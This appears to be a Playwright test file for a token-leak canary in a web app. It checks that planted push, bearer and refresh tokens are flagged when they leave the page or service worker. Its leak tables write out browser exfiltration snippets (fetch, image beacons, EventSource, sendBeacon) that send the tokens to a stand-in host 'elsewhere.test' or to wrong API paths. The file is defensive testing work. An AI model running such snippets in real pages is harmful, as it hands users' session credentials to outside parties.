import { type Browser, type BrowserContextOptions, expect, test } from '@playwright/test';
import { apiOrigin, appOrigin } from './addresses.ts';
import { createTokenWatch } from './tokenCanary.ts';

const elsewhere = 'https://elsewhere.test';
const token = 'fcm-planted';
const bearer = 'eyJwbGFudGVk.eyJieSI6InRlc3QifQ.signature-planted';
const refresh = 'refresh.planted.by.test';

/** Requests that a careless change could make, as scripts of the page or of its worker. */
const leaks: Record<string, string> = {
  'in the address, to another host': `fetch('${elsewhere}/collect?token=${token}')`,
  'in the body, to the path of the sign-in on another host': `fetch('${elsewhere}/api/users/oauth', { method: 'POST', body: '${token}' })`,
  'in the address of the sign-in itself': `fetch('${apiOrigin}/api/users/oauth?fcmToken=${token}', { method: 'POST' })`,
  'in the address of another call': `fetch('${apiOrigin}/api/event/popular?fcmToken=${token}')`,
  'in the body of another call': `fetch('${apiOrigin}/api/topic/subscribe', { method: 'POST', body: '{"fcmToken":"${token}"}' })`,
  'in a header': `fetch('${apiOrigin}/api/event/popular', { headers: { 'X-Token': '${token}' } })`,
  'in a stream': `void new EventSource('${elsewhere}/stream?token=${token}')`,
  'in an image': `void (new Image().src = '${elsewhere}/${token}.png')`,
};

const leaksOfTheSession: Record<string, string> = {
  'a bearer for another host': `fetch('${elsewhere}/', { headers: { Authorization: 'Bearer ${bearer}' } })`,
  'a bearer for the host of the app': `fetch('${appOrigin}/', { headers: { Authorization: 'Bearer ${bearer}' } })`,
  'a bearer for what is no call': `fetch('${apiOrigin}/images/1.svg', { headers: { Authorization: 'Bearer ${bearer}' } })`,
  'a bearer in an address': `fetch('${apiOrigin}/api/event/popular?token=${encodeURIComponent(bearer)}')`,
  'a bearer in an image': `void (new Image().src = '${elsewhere}/?${bearer}')`,
  'a bearer in a body': `fetch('${apiOrigin}/api/topic/subscribe', { method: 'POST', body: '${bearer}' })`,
  'a refresh token for another call': `fetch('${apiOrigin}/api/topic/subscribe', { method: 'POST', body: '${refresh}' })`,
  'a refresh token in place of the bearer': `fetch('${apiOrigin}/api/event/popular', { headers: { Authorization: 'Bearer ${refresh}' } })`,
  'a refresh token in a beacon': `void navigator.sendBeacon('${elsewhere}/', '${refresh}')`,
};

async function openWatched(browser: Browser, options?: BrowserContextOptions) {
  const context = await browser.newContext(options);
  const watch = createTokenWatch();
  watch.watch(context);
  return { context, page: await context.newPage(), watch };
}

test.describe('the canary of the session', () => {
  for (const [what, script] of Object.entries(leaksOfTheSession)) {
    test(`notices ${what}`, async ({ browser }) => {
      const { context, page, watch } = await openWatched(browser, { bypassCSP: true });
      await page.route(`${elsewhere}/**`, (route) =>
        route.fulfill({
          headers: { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*' },
        }),
      );
      await page.goto(`${appOrigin}/privacy_consent_form.html`);
      await page.evaluate(`void Promise.resolve(${script}).catch(() => undefined)`);
      await expect.poll(() => watch.leaks).toEqual([expect.stringMatching(/^(bearer|refresh token): /)]);
      await context.close();
    });
  }

  test('lets them go to the calls and to the reissue', async ({ browser }) => {
    const { context, page, watch } = await openWatched(browser);
    await page.goto(`${appOrigin}/privacy_consent_form.html`);
    await page.evaluate(
      async ([api, access, body]) => {
        const headers = { Authorization: `Bearer ${access}` };
        await fetch(`${api}/api/event/popular`, { headers }).catch(() => undefined);
        await fetch(`${api}/api/users/reissue-token`, { method: 'PATCH', body }).catch(() => undefined);
      },
      [apiOrigin, bearer, refresh] as const,
    );
    expect(watch.leaks).toEqual([]);
    await context.close();
  });
});

test.describe('the canary of the push token', () => {
  for (const [how, script] of Object.entries(leaks)) {
    test(`notices one that leaves a page ${how}`, async ({ browser }) => {
      const { context, page, watch } = await openWatched(browser, { bypassCSP: true });
      await page.route(`${elsewhere}/**`, (route) => route.fulfill({ body: '' }));
      await page.goto(`${appOrigin}/privacy_consent_form.html`);
      await page.evaluate(`void Promise.resolve(${script}).catch(() => undefined)`);
      await expect.poll(() => watch.leaks.length).toBe(1);
      await context.close();
    });
  }

  test('notices one that leaves the worker', async ({ browser }) => {
    const { context, page, watch } = await openWatched(browser, { serviceWorkers: 'allow' });
    const starting = context.waitForEvent('serviceworker');
    await page.goto(`${appOrigin}/guide`);
    const worker = await starting;
    await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
    await worker.evaluate(
      async (address) => void (await fetch(address).catch(() => undefined)),
      `${apiOrigin}/api/event/popular?fcmToken=${token}`,
    );
    await expect.poll(() => watch.leaks).toEqual([expect.stringContaining('/api/event/popular')]);
    await context.close();
  });

  test('lets it go to the API at a sign-in', async ({ browser }) => {
    const { context, page, watch } = await openWatched(browser);
    await page.goto(`${appOrigin}/privacy_consent_form.html`);
    await page.evaluate(
      ([api, body]) => fetch(`${api}/api/users/oauth`, { method: 'POST', body }).catch(() => undefined),
      [apiOrigin, token] as const,
    );
    expect([...watch.places]).toEqual([`POST ${apiOrigin}/api/users/oauth`]);
    expect(watch.leaks).toEqual([]);
    await context.close();
  });
});
